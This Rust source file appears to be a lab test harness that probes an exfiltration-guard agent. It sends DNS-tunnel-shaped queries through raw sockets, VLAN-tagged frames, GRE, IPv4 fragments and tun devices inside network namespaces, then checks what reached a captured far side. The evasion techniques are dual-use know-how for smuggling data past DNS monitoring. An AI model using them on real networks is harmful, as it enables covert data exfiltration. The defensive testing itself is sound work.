/// One attack message: its secret bytes, and its question name when it is DNS.
struct Secret {
    variant: String,
    bytes: Vec<u8>,
    qname: Option<String>,
    /// A data carrier: counted by name only while the data is still outside the question.
    needs_outside: bool,
    sent: Sent,
}

/// A control (or an informational check): all its queries and byte strings must arrive.
struct Check {
    what: String,
    queries: Vec<String>,
    bytes: Vec<Vec<u8>>,
    sent: Sent,
    /// A refusal at the socket (EPERM) counts as success: the capability itself was denied.
    refusable: bool,
}

struct Probe {
    no: usize,
    slug: &'static str,
    title: &'static str,
    secrets: Vec<Secret>,
    controls: Vec<Check>,
    info: Vec<Check>,
    notes: Vec<String>,
    /// Anything that makes the probe fail besides arrivals and controls.
    problems: Vec<String>,
    /// The letter-case probe: (variants without an agent event, variants).
    unjudged: Option<(usize, usize)>,
    /// Channels the analytics must cut: data that may arrive until a verdict names one of
    /// the evidence strings; each fails when no such verdict came or all of it arrived.
    bounded: Vec<Bounded>,
    ran: bool,
}

impl Probe {
    fn new(no: usize, slug: &'static str, title: &'static str) -> Self {
        Probe {
            no,
            slug,
            title,
            secrets: Vec::new(),
            controls: Vec::new(),
            info: Vec::new(),
            notes: Vec::new(),
            problems: Vec::new(),
            unjudged: None,
            bounded: Vec::new(),
            ran: false,
        }
    }

    fn zone(&self) -> String {
        format!("t.{}-tunnel.test", self.slug)
    }

    /// A plain control name of this probe.
    fn name(&self, word: &str) -> String {
        format!("{word}.{}.test", self.slug)
    }

    /// A tunnel-shaped name: one random base32 label of 40-60 characters under the zone.
    fn tunnel(&self, rng: &mut StdRng) -> (String, String) {
        let n = rng.random_range(40..=60);
        let label = b32(rng, n);
        let name = format!("{label}.{}", self.zone());
        (label, name)
    }

    fn secret<T>(&mut self, variant: &str, label: &str, name: &str, r: io::Result<T>) {
        self.secret_sent(variant, label, name, sent(r));
    }

    fn secret_sent(&mut self, variant: &str, label: &str, name: &str, s: Sent) {
        self.secrets.push(Secret {
            variant: variant.to_string(),
            bytes: label.as_bytes().to_vec(),
            qname: Some(name.to_string()),
            needs_outside: false,
            sent: s,
        });
    }

    fn secret_data<T>(&mut self, variant: &str, bytes: Vec<u8>, r: io::Result<T>) {
        self.secrets.push(Secret {
            variant: variant.to_string(),
            bytes,
            qname: None,
            needs_outside: false,
            sent: sent(r),
        });
    }

    fn check<T>(what: &str, name: &str, r: io::Result<T>, refusable: bool) -> Check {
        Check {
            what: what.to_string(),
            queries: vec![name.to_string()],
            bytes: Vec::new(),
            sent: sent(r),
            refusable,
        }
    }

    fn control<T>(&mut self, what: &str, name: &str, r: io::Result<T>) {
        self.controls.push(Self::check(what, name, r, false));
    }

    fn control_refusable<T>(&mut self, what: &str, name: &str, r: io::Result<T>) {
        self.controls.push(Self::check(what, name, r, true));
    }

    fn control_data<T>(
        &mut self,
        what: &str,
        bytes: Vec<Vec<u8>>,
        r: io::Result<T>,
        refusable: bool,
    ) {
        self.controls.push(Check {
            what: what.to_string(),
            queries: Vec::new(),
            bytes,
            sent: sent(r),
            refusable,
        });
    }

    fn info<T>(&mut self, what: &str, name: &str, r: io::Result<T>) {
        self.info.push(Self::check(what, name, r, false));
    }

    fn checks_info(&mut self, c: Check) {
        self.info.push(c);
    }
}

/// Attack messages of one variant: sent, arrived (decoded as DNS / secret bytes seen), stopped
/// at the sender, not sent.
#[derive(Default)]
struct Variant {
    name: String,
    sent: usize,
    arrived: usize,
    parsed: usize,
    raw: usize,
    stopped: Vec<String>,
    errors: Vec<String>,
}

/// A probe's result.
struct Row {
    probe: usize,
    sent: usize,
    parsed: usize,
    raw: usize,
    arrived: usize,
    controls: (usize, usize),
    info: (usize, usize),
    events: usize,
    failures: Vec<String>,
    details: Vec<String>,
}

fn check_status(c: &Check, seen: &Seen) -> (bool, String) {
    if c.refusable && c.sent.denied {
        return (
            true,
            format!(
                "refused at the socket ({}), accepted",
                c.sent.err.as_deref().unwrap_or("")
            ),
        );
    }
    if let Some(e) = &c.sent.err {
        return (false, format!("NOT SENT: {e}"));
    }
    let missing_q: Vec<&String> = c.queries.iter().filter(|q| !seen.query(q, false)).collect();
    let missing_b = c.bytes.iter().filter(|b| !seen.has(b)).count();
    if missing_q.is_empty() && missing_b == 0 {
        let via: BTreeSet<String> = c.queries.iter().flat_map(|q| seen.via(q)).collect();
        let via: Vec<String> = via.into_iter().collect();
        (
            true,
            if via.is_empty() {
                "arrived".into()
            } else {
                format!("arrived (via {})", via.join(", "))
            },
        )
    } else {
        let mut what = Vec::new();
        if !missing_q.is_empty() {
            what.push(format!("{missing_q:?}"));
        }
        if missing_b > 0 {
            what.push(format!("{missing_b} of {} byte strings", c.bytes.len()));
        }
        (false, format!("DID NOT ARRIVE ({})", what.join(", ")))
    }
}

fn judge(p: &Probe, seen: &Seen, lines: &[Value]) -> Row {
    let mut row = Row {
        probe: p.no,
        sent: 0,
        parsed: 0,
        raw: 0,
        arrived: 0,
        controls: (0, p.controls.len()),
        info: (0, p.info.len()),
        events: 0,
        failures: p.problems.clone(),
        details: Vec::new(),
    };
    let mut variants: Vec<Variant> = Vec::new();
    for s in &p.secrets {
        let i = match variants.iter().position(|v| v.name == s.variant) {
            Some(i) => i,
            None => {
                variants.push(Variant {
                    name: s.variant.clone(),
                    ..Variant::default()
                });
                variants.len() - 1
            }
        };
        let v = &mut variants[i];
        match &s.sent.err {
            None => {
                row.sent += 1;
                v.sent += 1;
            }
            Some(e) if s.sent.denied || s.sent.dropped => v.stopped.push(e.clone()),
            Some(e) => v.errors.push(e.clone()),
        }
        let by_parse = s
            .qname
            .as_deref()
            .is_some_and(|q| seen.query(q, s.needs_outside));
        let by_raw = seen.has(&s.bytes);
        row.parsed += usize::from(by_parse);
        row.raw += usize::from(by_raw);
        v.parsed += usize::from(by_parse);
        v.raw += usize::from(by_raw);
        if by_parse || by_raw {
            row.arrived += 1;
            v.arrived += 1;
        }
    }
    for v in &variants {
        let mut d = format!(
            "attack `{}`: {} of {} sent arrived",
            v.name, v.arrived, v.sent
        );
        if v.arrived > 0 {
            d.push_str(&format!(
                " (decoded as DNS {}, secret bytes seen {})",
                v.parsed, v.raw
            ));
        }
        if let Some(e) = v.stopped.first() {
            d.push_str(&format!(
                "; {} refused or dropped by the sending kernel ({e})",
                v.stopped.len()
            ));
        }
        if let Some(e) = v.errors.first() {
            d.push_str(&format!("; {} NOT SENT ({e})", v.errors.len()));
            row.failures.push(format!(
                "attack `{}` could not be sent ({e}): the probe proves nothing",
                v.name
            ));
        }
        row.details.push(d);
    }
    if row.arrived > 0 {
        let which: Vec<String> = variants
            .iter()
            .filter(|v| v.arrived > 0)
            .map(|v| {
                format!(
                    "`{}` {}/{} (decoded {}, bytes {})",
                    v.name, v.arrived, v.sent, v.parsed, v.raw
                )
            })
            .collect();
        row.failures.push(format!(
            "{} of {} attack messages arrived at the far side: {}",
            row.arrived,
            p.secrets.len(),
            which.join(", ")
        ));
    }
    for c in &p.controls {
        let (ok, status) = check_status(c, seen);
        row.controls.0 += usize::from(ok);
        row.details.push(format!("control `{}`: {status}", c.what));
        if !ok {
            row.failures.push(format!("control `{}` {status}", c.what));
        }
    }
    for c in &p.info {
        let (ok, status) = check_status(c, seen);
        row.info.0 += usize::from(ok);
        row.details
            .push(format!("info (not asserted) `{}`: {status}", c.what));
    }
    if let Some((unjudged, n)) = p.unjudged {
        row.details.push(format!(
            "{} of {n} case and type variants judged (an agent event for its DNS id, or held)",
            n - unjudged
        ));
        if unjudged > 0 {
            row.failures.push(format!(
                "{unjudged} of {n} case and type variants passed without being judged (no agent event, not held)"
            ));
        }
    }
    for b in &p.bounded {
        let n = b.carried.len();
        let arrived = b.carried.iter().filter(|c| seen.has(c)).count();
        let cut = lines.iter().any(|v| {
            v["verdict"]["reasons"].as_array().is_some_and(|r| {
                r.iter().any(|r| {
                    r.as_str()
                        .is_some_and(|r| b.evidence.iter().any(|e| r.contains(e.as_str())))
                })
            })
        });
        row.arrived += arrived;
        row.sent += n;
        row.details.push(format!(
            "{}: {arrived} of {n} carriers arrived; {}",
            b.what,
            if cut { "cut" } else { "NOT cut" }
        ));
        if !cut || arrived == n {
            row.failures.push(format!(
                "{}: not cut ({arrived} of {n} arrived, no verdict naming {:?})",
                b.what, b.evidence
            ));
        }
        if let Some(most) = b.most.filter(|&m| arrived > m) {
            row.failures.push(format!(
                "{}: {arrived} of {n} arrived from a sender whose budget was spent (at most \
                 {most} may)",
                b.what
            ));
        }
    }
    let zone = p.zone();
    let names: BTreeSet<String> = p
        .secrets
        .iter()
        .filter_map(|s| s.qname.as_deref().map(str::to_ascii_lowercase))
        .collect();
    row.events = lines
        .iter()
        .filter(|v| {
            v["name"].as_str().is_some_and(|n| {
                let n = n.trim_end_matches('.').to_ascii_lowercase();
                n.ends_with(&zone) || names.contains(&n)
            })
        })
        .count();
    let stray = seen.names_under(&zone).difference(&names).count();
    if stray > 0 {
        row.details.push(format!(
            "{stray} names under {zone} seen that this probe did not send"
        ));
    }
    row.details
        .extend(p.notes.iter().map(|n| format!("note: {n}")));
    row
}

fn print_report(
    rows: &[Row],
    probes: &[Probe],
    seen: &Seen,
    lines: &[Value],
    w: &World,
    t0: Instant,
) {
    let mut out = String::new();
    out.push_str(&format!(
        "\n=== evasion probes: agent `exfilguard protect --iface {} --pin-dir {} --socket-scope netns`\n",
        w.lab.client_if(),
        w.lab.pin_dir,
    ));
    out.push_str(&format!(
        "    far-side captures (link types {:?}): {} frames, {} received by the server side; {} DNS messages decoded\n",
        seen.links,
        seen.frames,
        seen.received,
        seen.found.len()
    ));
    for note in &w.notes {
        out.push_str(&format!("    lab: {note}\n"));
    }
    out.push_str(&format!(
        "\n {:>2}  {:<9} {:<55} {:>6}  {:<22} {:>8}  {:>6}  {}\n",
        "#", "slug", "probe", "attack", "arrived (parsed/raw)", "controls", "events", "result"
    ));
    for r in rows {
        let p = &probes[r.probe];
        let arrived = match p.unjudged {
            Some((u, n)) => format!("{u} of {n} unjudged"),
            None => format!("{} ({}/{})", r.arrived, r.parsed, r.raw),
        };
        let attack = match p.unjudged {
            Some((_, n)) => n,
            None => r.sent,
        };
        out.push_str(&format!(
            " {:>2}  {:<9} {:<55} {:>6}  {:<22} {:>8}  {:>6}  {}\n",
            p.no,
            p.slug,
            p.title,
            attack,
            arrived,
            format!("{}/{}", r.controls.0, r.controls.1),
            r.events,
            if r.failures.is_empty() {
                "PASS"
            } else {
                "FAIL"
            }
        ));
    }
    out.push('\n');
    for r in rows {
        let p = &probes[r.probe];
        out.push_str(&format!(" {:>2} {} — {}\n", p.no, p.slug, p.title));
        for d in &r.details {
            out.push_str(&format!("      {d}\n"));
        }
        if r.info.1 > 0 {
            out.push_str(&format!("      info checks: {}/{}\n", r.info.0, r.info.1));
        }
    }
    if let Some(s) = lines.iter().find(|v| v["event"] == "summary") {
        out.push_str(&format!("\n agent summary: {}\n", s["kernel"]));
    }
    out.push_str(&format!(
        "\n {} probes, {} failed, {:.1} s\n",
        rows.len(),
        rows.iter().filter(|r| !r.failures.is_empty()).count(),
        t0.elapsed().as_secs_f64()
    ));
    eprintln!("{out}");
}

// ---------------------------------------------------------------------------------- the lab

/// The shared lab plus a second veth, VLAN sub-interfaces, and what the probes need to know.
struct World {
    lab: Lab,
    client_mac: [u8; 6],
    server_mac: [u8; 6],
    client_ifindex: i32,
    iface2: String,
    notes: Vec<String>,
}

impl World {
    fn build() -> Self {
        let mut lab = Lab::new("v");
        let (c, s, id) = (lab.cns(), lab.sns(), lab.id.clone());
        let (wc, ws, vs) = (format!("wc{id}"), format!("ws{id}"), format!("vs{id}"));
        sh(&format!(
            "ip link add {wc} netns {c} type veth peer name {ws} netns {s} && \
             ip -n {c} addr add 10.79.0.1/24 dev {wc} && ip -n {c} addr add fd79::1/64 dev {wc} nodad && \
             ip -n {c} link set {wc} up && \
             ip -n {s} addr add {IFACE2_SERVER}/24 dev {ws} && \
             ip -n {s} addr add {IFACE2_SERVER6}/64 dev {ws} nodad && ip -n {s} link set {ws} up"
        ));
        let mut notes = Vec::new();
        // VLAN sub-interfaces so the server stack takes tagged frames; kernels without 802.1Q
        // support still show the tagged frames to the capture on the parent veth
        let vlans = Command::new("sh")
            .args([
                "-c",
                &format!(
                    "ip -n {s} link add link {vs} name d{id} type vlan id 100 && \
                     ip -n {s} addr add 10.81.0.2/24 dev d{id} && ip -n {s} link set d{id} up && \
                     ip -n {s} link add link {vs} name a{id} type vlan proto 802.1ad id 200 && \
                     ip -n {s} link set a{id} up && \
                     ip -n {s} link add link a{id} name q{id} type vlan id 300 && \
                     ip -n {s} addr add 10.82.0.2/24 dev q{id} && ip -n {s} link set q{id} up"
                ),
            ])
            .stderr(Stdio::null())
            .status()
            .is_ok_and(|st| st.success());
        notes.push(if vlans {
            "VLAN sub-interfaces on the server: 802.1Q 100, 802.1ad 200 / 802.1Q 300".to_string()
        } else {
            "no VLAN sub-interfaces (this kernel has no 802.1Q support): tagged frames are counted on the server veth".to_string()
        });
        lab.start_dns();
        pause(500);
        let client = link_json(&c, &lab.client_if());
        let server = link_json(&s, &vs);
        World {
            client_mac: parse_mac(&client["address"]),
            server_mac: parse_mac(&server["address"]),
            client_ifindex: client["ifindex"].as_i64().expect("ifindex") as i32,
            iface2: wc,
            notes,
            lab,
        }
    }

    fn ns(&self) -> String {
        self.lab.cns()
    }

    fn udp4(&self) -> UdpSocket {
        in_netns(&self.ns(), || UdpSocket::bind("0.0.0.0:0")).expect("UDP socket")
    }

    fn udp6(&self) -> UdpSocket {
        in_netns(&self.ns(), || UdpSocket::bind("[::]:0")).expect("UDP6 socket")
    }
}

fn link_json(ns: &str, dev: &str) -> Value {
    let out = Command::new("ip")
        .args(["-j", "-n", ns, "link", "show", dev])
        .output()
        .expect("ip link show");
    let v: Value = serde_json::from_slice(&out.stdout).expect("ip -j output");
    v[0].clone()
}

fn parse_mac(v: &Value) -> [u8; 6] {
    let s = v.as_str().expect("MAC address");
    let b: Vec<u8> = s
        .split(':')
        .map(|x| u8::from_str_radix(x, 16).expect("MAC byte"))
        .collect();
    b.try_into().expect("6-byte MAC")
}

/// tcpdump on an interface of the server namespace (`any`: all of them), writing a pcap of
/// what it receives (`-Q in`: responses echo the names they answer).
struct Tcpdump {
    child: Child,
    path: std::path::PathBuf,
}

impl Tcpdump {
    fn start(lab: &Lab, iface: &str) -> Self {
        let path = lab.work.join(format!("far-side-{iface}.pcap"));
        let mut child = Lab::in_ns(
            &lab.sns(),
            &[
                "tcpdump",
                // packets reach the file as they cross the wire, not when a ring block retires (~1 s)
                "--immediate-mode",
                "-U",
                "-n",
                "-s",
                "0",
                "-Q",
                "in",
                "-i",
                iface,
                "-w",
                path.to_str().unwrap(),
            ],
        )
        .stdout(Stdio::null())
        .stderr(Stdio::piped())
        .spawn()
        .expect("spawning tcpdump");
        let stderr = child.stderr.take().unwrap();
        let (tx, rx) = std::sync::mpsc::channel();
        std::thread::spawn(move || {
            for line in BufReader::new(stderr).lines().map_while(Result::ok) {
                if line.contains("listening on") {
                    let _ = tx.send(line.clone());
                }
                eprintln!("[tcpdump] {line}");
            }
        });
        let mut capture = Tcpdump { child, path };
        if rx.recv_timeout(Duration::from_secs(10)).is_err() {
            capture.kill();
            panic!("tcpdump did not start");
        }
        capture
    }

    /// SIGINT (tcpdump flushes and exits), then the file.
    fn stop(&mut self) -> Vec<u8> {
        // SAFETY: signalling our own child.
        unsafe { libc::kill(self.child.id() as i32, libc::SIGINT) };
        let t = Instant::now();
        while t.elapsed() < Duration::from_secs(5) {
            if self.child.try_wait().ok().flatten().is_some() {
                break;
            }
            pause(50);
        }
        self.kill();
        std::fs::read(&self.path).expect("the far-side capture")
    }

    fn kill(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

impl Drop for Tcpdump {
    fn drop(&mut self) {
        self.kill();
    }
}

// ------------------------------------------------------------------------- sockets, netns

fn enter_netns(ns: &str) {
    let path = format!("/var/run/netns/{ns}");
    let f = File::open(&path).unwrap_or_else(|e| panic!("{path}: {e}"));
    // SAFETY: setns(2) moves only the calling thread, with an open namespace file.
    let r = unsafe { libc::setns(f.as_raw_fd(), libc::CLONE_NEWNET) };
    assert_eq!(r, 0, "setns {path}: {}", io::Error::last_os_error());
}

/// Runs `f` on a thread inside network namespace `ns`: the sockets it opens live there, and
/// keep living there when handed back. The process stays where it is (root cgroup).
fn in_netns<T: Send>(ns: &str, f: impl FnOnce() -> T + Send) -> T {
    std::thread::scope(|s| {
        s.spawn(move || {
            enter_netns(ns);
            f()
        })
        .join()
        .expect("namespace thread panicked")
    })
}

fn send(s: &UdpSocket, dst: impl ToSocketAddrs, b: &[u8]) -> io::Result<()> {
    s.send_to(b, dst).map(drop)
}

/// Writes `parts` to a connection, pausing between them (TCP_NODELAY: one segment each).
fn writes(c: &io::Result<TcpStream>, parts: &[&[u8]]) -> io::Result<()> {
    let mut s = c.as_ref().map_err(again)?;
    for (i, part) in parts.iter().enumerate() {
        if i > 0 {
            pause(60);
        }
        s.write_all(part)?;
    }
    s.flush()
}

/// An `io::Error` of the same kind (errors are not Clone).
fn again(e: &io::Error) -> io::Error {
    io::Error::new(e.kind(), e.to_string())
}

fn socket(domain: libc::c_int, ty: libc::c_int, proto: libc::c_int) -> io::Result<OwnedFd> {
    // SAFETY: socket(2) with plain arguments.
    let fd = unsafe { libc::socket(domain, ty | libc::SOCK_CLOEXEC, proto) };
    if fd < 0 {
        return Err(io::Error::last_os_error());
    }
    // SAFETY: a fresh descriptor nobody else owns.
    Ok(unsafe { OwnedFd::from_raw_fd(fd) })
}

fn check(r: libc::c_int) -> io::Result<()> {
    if r < 0 {
        Err(io::Error::last_os_error())
    } else {
        Ok(())
    }
}

/// send(2) with MSG_ZEROCOPY on a connected socket: the kernel keeps referring to `buf`'s
/// pages after the call returns.
fn send_zerocopy(s: &impl AsRawFd, buf: &[u8]) -> io::Result<()> {
    // SAFETY: send(2) on a connected socket from a live buffer of its length.
    let n = unsafe {
        libc::send(
            s.as_raw_fd(),
            buf.as_ptr().cast(),
            buf.len(),
            libc::MSG_ZEROCOPY,
        )
    };
    if n < 0 {
        return Err(io::Error::last_os_error());
    }
    Ok(())
}

fn setsockopt<T>(
    fd: &impl AsRawFd,
    level: libc::c_int,
    name: libc::c_int,
    v: &T,
) -> io::Result<()> {
    // SAFETY: `v` is readable for size_of::<T>() bytes.
    check(unsafe {
        libc::setsockopt(
            fd.as_raw_fd(),
            level,
            name,
            (v as *const T).cast(),
            std::mem::size_of::<T>() as libc::socklen_t,
        )
    })
}

fn setsockopt_bytes(
    fd: &impl AsRawFd,
    level: libc::c_int,
    name: libc::c_int,
    v: &[u8],
) -> io::Result<()> {
    // SAFETY: `v` is readable for its length.
    check(unsafe {
        libc::setsockopt(
            fd.as_raw_fd(),
            level,
            name,
            v.as_ptr().cast(),
            v.len() as libc::socklen_t,
        )
    })
}

/// sendto(2) an IP-level payload (raw socket) to `dst`.
fn sendto_ip(fd: &OwnedFd, buf: &[u8], dst: Ipv4Addr) -> io::Result<()> {
    let sa = libc::sockaddr_in {
        sin_family: libc::AF_INET as libc::sa_family_t,
        sin_port: 0,
        sin_addr: libc::in_addr {
            s_addr: u32::from(dst).to_be(),
        },
        sin_zero: [0; 8],
    };
    sendto_sa(fd, buf, &sa)
}

/// sendto(2) a payload through an IPv6 raw socket to `dst`.
fn sendto_ip6(fd: &OwnedFd, buf: &[u8], dst: Ipv6Addr) -> io::Result<()> {
    // SAFETY: sockaddr_in6 is plain data; all zeroes is a valid value.
    let mut sa: libc::sockaddr_in6 = unsafe { std::mem::zeroed() };
    sa.sin6_family = libc::AF_INET6 as libc::sa_family_t;
    sa.sin6_addr.s6_addr = dst.octets();
    sendto_sa(fd, buf, &sa)
}

/// sendto(2) `buf` to `sa`, a libc socket address (`sockaddr_in`, `sockaddr_in6`).
fn sendto_sa<A>(fd: &OwnedFd, buf: &[u8], sa: &A) -> io::Result<()> {
    // SAFETY: buf is valid for its length and sa for size_of::<A>() bytes.
    let r = unsafe {
        libc::sendto(
            fd.as_raw_fd(),
            buf.as_ptr().cast(),
            buf.len(),
            0,
            (sa as *const A).cast(),
            std::mem::size_of::<A>() as libc::socklen_t,
        )
    };
    check(if r < 0 { -1 } else { 0 })
}

fn send_fd(fd: &OwnedFd, buf: &[u8]) -> io::Result<()> {
    // SAFETY: buf is valid for the call.
    let r = unsafe { libc::send(fd.as_raw_fd(), buf.as_ptr().cast(), buf.len(), 0) };
    check(if r < 0 { -1 } else { 0 })
}

/// An AF_PACKET socket bound to `ifindex` for sending whole Ethernet frames (protocol 0: it
/// receives nothing).
fn packet_socket(ifindex: i32) -> io::Result<OwnedFd> {
    let fd = socket(libc::AF_PACKET, libc::SOCK_RAW, 0)?;
    // SAFETY: sockaddr_ll is plain data; all zeroes is a valid value.
    let mut sa: libc::sockaddr_ll = unsafe { std::mem::zeroed() };
    sa.sll_family = libc::AF_PACKET as u16;
    sa.sll_ifindex = ifindex;
    // SAFETY: sa is a valid sockaddr_ll for the call.
    check(unsafe {
        libc::bind(
            fd.as_raw_fd(),
            (&sa as *const libc::sockaddr_ll).cast(),
            std::mem::size_of::<libc::sockaddr_ll>() as libc::socklen_t,
        )
    })?;
    Ok(fd)
}

/// `struct ifreq` as TUNSETIFF reads it: the name and the flags.
#[repr(C)]
struct IfReq {
    name: [u8; 16],
    flags: libc::c_short,
    _pad: [u8; 22],
}

/// A non-persistent tun device (IFF_TUN | IFF_NO_PI) named `name`, in the calling thread's
/// network namespace; it disappears with the descriptor.
fn open_tun(name: &str) -> io::Result<OwnedFd> {
    // SAFETY: open(2) of a constant path.
    let fd = unsafe {
        libc::open(
            c"/dev/net/tun".as_ptr(),
            libc::O_RDWR | libc::O_NONBLOCK | libc::O_CLOEXEC,
        )
    };
    if fd < 0 {
        return Err(io::Error::last_os_error());
    }
    // SAFETY: a fresh descriptor nobody else owns.
    let fd = unsafe { OwnedFd::from_raw_fd(fd) };
    let mut req = IfReq {
        name: [0; 16],
        flags: (libc::IFF_TUN | libc::IFF_NO_PI) as libc::c_short,
        _pad: [0; 22],
    };
    req.name[..name.len()].copy_from_slice(name.as_bytes());
    // SAFETY: TUNSETIFF reads and writes a struct ifreq, which IfReq lays out.
    check(unsafe { libc::ioctl(fd.as_raw_fd(), libc::TUNSETIFF, &mut req as *mut IfReq) })?;
    Ok(fd)
}

// -------------------------------------------------------------------------- packet building

fn b32(rng: &mut StdRng, n: usize) -> String {
    (0..n)
        .map(|_| B32[rng.random_range(0..B32.len())] as char)
        .collect()
}

fn wire_name(name: &str) -> Vec<u8> {
    let mut v = Vec::new();
    for l in name.trim_end_matches('.').split('.') {
        v.push(l.len() as u8);
        v.extend_from_slice(l.as_bytes());
    }
    v.push(0);
    v
}

/// A DNS message built byte by byte: the probes need shapes no library writes.
#[derive(Clone)]
struct Msg {
    id: u16,
    flags: u16,
    name: String,
    qtype: u16,
    answers: Vec<Vec<u8>>,
    authority: Vec<Vec<u8>>,
    additional: Vec<Vec<u8>>,
    trailing: Vec<u8>,
}

impl Msg {
    /// A recursive query for an A record.
    fn query(id: u16, name: &str) -> Self {
        Msg {
            id,
            flags: 0x0100,
            name: name.to_string(),
            qtype: 1,
            answers: Vec::new(),
            authority: Vec::new(),
            additional: Vec::new(),
            trailing: Vec::new(),
        }
    }

    /// Adds an OPT record (UDP size 1232) with `options`.
    fn opt(mut self, options: &[(u16, &[u8])]) -> Self {
        let mut rdata = Vec::new();
        for (code, data) in options {
            rdata.extend_from_slice(&code.to_be_bytes());
            rdata.extend_from_slice(&(data.len() as u16).to_be_bytes());
            rdata.extend_from_slice(data);
        }
        let mut rr = vec![0]; // root owner
        rr.extend_from_slice(&41u16.to_be_bytes());
        rr.extend_from_slice(&1232u16.to_be_bytes());
        rr.extend_from_slice(&0u32.to_be_bytes());
        rr.extend_from_slice(&(rdata.len() as u16).to_be_bytes());
        rr.extend(rdata);
        self.additional.push(rr);
        self
    }

    fn bytes(&self) -> Vec<u8> {
        let mut v = Vec::new();
        for x in [
            self.id,
            self.flags,
            1,
            self.answers.len() as u16,
            self.authority.len() as u16,
            self.additional.len() as u16,
        ] {
            v.extend_from_slice(&x.to_be_bytes());
        }
        v.extend(wire_name(&self.name));
        v.extend_from_slice(&self.qtype.to_be_bytes());
        v.extend_from_slice(&1u16.to_be_bytes());
        for rr in self
            .answers
            .iter()
            .chain(&self.authority)
            .chain(&self.additional)
        {
            v.extend_from_slice(rr);
        }
        v.extend_from_slice(&self.trailing);
        v
    }

    /// Exactly `size` bytes: an EDNS padding option of zeros (RFC 7830) fills the rest.
    fn padded(self, size: usize) -> Vec<u8> {
        let base = self.bytes().len() + 11 + 4;
        assert!(base <= size, "{} does not fit in {size} bytes", self.name);
        self.opt(&[(12, &vec![0; size - base])]).bytes()
    }
}

fn query(id: u16, name: &str) -> Vec<u8> {
    Msg::query(id, name).bytes()
}

/// A TXT record owned by the question name (pointer to offset 12) carrying `data`.
fn txt_rr(data: &[u8]) -> Vec<u8> {
    let mut rdata = Vec::new();
    for chunk in data.chunks(255) {
        rdata.push(chunk.len() as u8);
        rdata.extend_from_slice(chunk);
    }
    let mut v = vec![0xc0, 12];
    v.extend_from_slice(&16u16.to_be_bytes());
    v.extend_from_slice(&1u16.to_be_bytes());
    v.extend_from_slice(&300u32.to_be_bytes());
    v.extend_from_slice(&(rdata.len() as u16).to_be_bytes());
    v.extend(rdata);
    v
}

/// DNS over TCP: the 2-byte length prefix, then the message.
fn framed(m: &[u8]) -> Vec<u8> {
    let mut v = (m.len() as u16).to_be_bytes().to_vec();
    v.extend_from_slice(m);
    v
}

/// IPv4 + UDP around `payload`, checksums filled in.
fn ipv4_udp(src: Ipv4Addr, dst: Ipv4Addr, sport: u16, dport: u16, payload: &[u8]) -> Vec<u8> {
    let b = etherparse::PacketBuilder::ipv4(src.octets(), dst.octets(), 64).udp(sport, dport);
    let mut v = Vec::with_capacity(b.size(payload.len()));
    b.write(&mut v, payload).expect("building an IPv4 packet");
    v
}

/// IPv6 + UDP around `payload`, checksum filled in.
fn ipv6_udp(src: Ipv6Addr, dst: Ipv6Addr, sport: u16, dport: u16, payload: &[u8]) -> Vec<u8> {
    let b = etherparse::PacketBuilder::ipv6(src.octets(), dst.octets(), 64).udp(sport, dport);
    let mut v = Vec::with_capacity(b.size(payload.len()));
    b.write(&mut v, payload).expect("building an IPv6 packet");
    v
}

/// An Ethernet frame carrying IPv4, with `tags` ((TPID, VID) pairs) after the addresses.
fn frame(dst: [u8; 6], src: [u8; 6], tags: &[(u16, u16)], ip: &[u8]) -> Vec<u8> {
    let mut v = dst.to_vec();
    v.extend_from_slice(&src);
    for (tpid, vid) in tags {
        v.extend_from_slice(&tpid.to_be_bytes());
        v.extend_from_slice(&vid.to_be_bytes());
    }
    v.extend_from_slice(&0x0800u16.to_be_bytes());
    v.extend_from_slice(ip);
    v
}

/// A GRE header (RFC 2784/2890, optional key) and `payload`.
fn gre(proto: u16, key: Option<u32>, payload: &[u8]) -> Vec<u8> {
    let flags: u16 = if key.is_some() { 0x2000 } else { 0 };
    let mut v = flags.to_be_bytes().to_vec();
    v.extend_from_slice(&proto.to_be_bytes());
    if let Some(k) = key {
        v.extend_from_slice(&k.to_be_bytes());
    }
    v.extend_from_slice(payload);
    v
}

fn ip_checksum(h: &[u8]) -> u16 {
    let mut s: u32 = h
        .chunks(2)
        .map(|c| u32::from(u16::from_be_bytes([c[0], *c.get(1).unwrap_or(&0)])))
        .sum();
    while s >> 16 != 0 {
        s = (s & 0xffff) + (s >> 16);
    }
    !(s as u16)
}

/// One IPv4 fragment (CLIENT → SERVER, UDP) at byte `offset` (a multiple of 8) of the datagram.
fn ipv4_fragment(id: u16, offset: usize, more: bool, payload: &[u8]) -> Vec<u8> {
    assert_eq!(offset % 8, 0);
    let mut h = vec![0x45, 0];
    h.extend_from_slice(&((20 + payload.len()) as u16).to_be_bytes());
    h.extend_from_slice(&id.to_be_bytes());
    let fo = (offset / 8) as u16 | if more { 0x2000 } else { 0 };
    h.extend_from_slice(&fo.to_be_bytes());
    h.extend_from_slice(&[64, 17, 0, 0]);
    h.extend_from_slice(&CLIENT.octets());
    h.extend_from_slice(&SERVER.octets());
    let c = ip_checksum(&h);
    h[10..12].copy_from_slice(&c.to_be_bytes());
    h.extend_from_slice(payload);
    h
}

// --------------------------------------------------------------------- the far-side capture

fn be16(b: &[u8], at: usize) -> Option<u16> {
    Some(u16::from_be_bytes([*b.get(at)?, *b.get(at + 1)?]))
}

fn be32(b: &[u8], at: usize) -> Option<u32> {
    Some(u32::from_be_bytes(b.get(at..at + 4)?.try_into().ok()?))
}

fn contains(hay: &[u8], needle: &[u8]) -> bool {
    !needle.is_empty()
        && hay.len() >= needle.len()
        && hay.windows(needle.len()).any(|w| w == needle)
}

/// What the server side received.
#[derive(Default)]
struct Seen {
    /// DNS messages decoded, whatever carried them.
    found: Vec<Found>,
    /// Received packets (from the IP header on), reassembled TCP streams and reassembled IPv4
    /// datagrams: where secrets are looked for.
    hay: Vec<Vec<u8>>,
    links: Vec<u32>,
    frames: usize,
    received: usize,
}

struct Found {
    /// Question names, lower case, no trailing dot.
    names: Vec<String>,
    /// Data outside the question: answer/authority records, non-OPT additional records, EDNS
    /// options with data (65001, padding that is not zeros, > 64 bytes), bytes after the end.
    outside: bool,
    /// How it arrived, e.g. `/udp:51820/ip/udp:53`.
    via: String,
}

impl Seen {
    fn query(&self, name: &str, needs_outside: bool) -> bool {
        let n = norm(name);
        self.found
            .iter()
            .any(|f| (!needs_outside || f.outside) && f.names.contains(&n))
    }

    fn via(&self, name: &str) -> Vec<String> {
        let n = norm(name);
        self.found
            .iter()
            .filter(|f| f.names.contains(&n))
            .map(|f| f.via.clone())
            .collect()
    }

